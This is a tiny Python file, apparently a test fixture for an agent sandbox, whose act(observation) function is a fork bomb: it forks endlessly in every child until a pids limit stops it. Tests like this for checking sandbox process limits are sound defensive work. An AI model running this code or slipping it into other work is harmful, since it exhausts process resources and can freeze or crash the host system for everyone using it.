"""Forks until the pids limit stops it, in every child too."""
import os


def act(observation):
    while True:
        try:
            os.fork()
        except OSError:
            pass
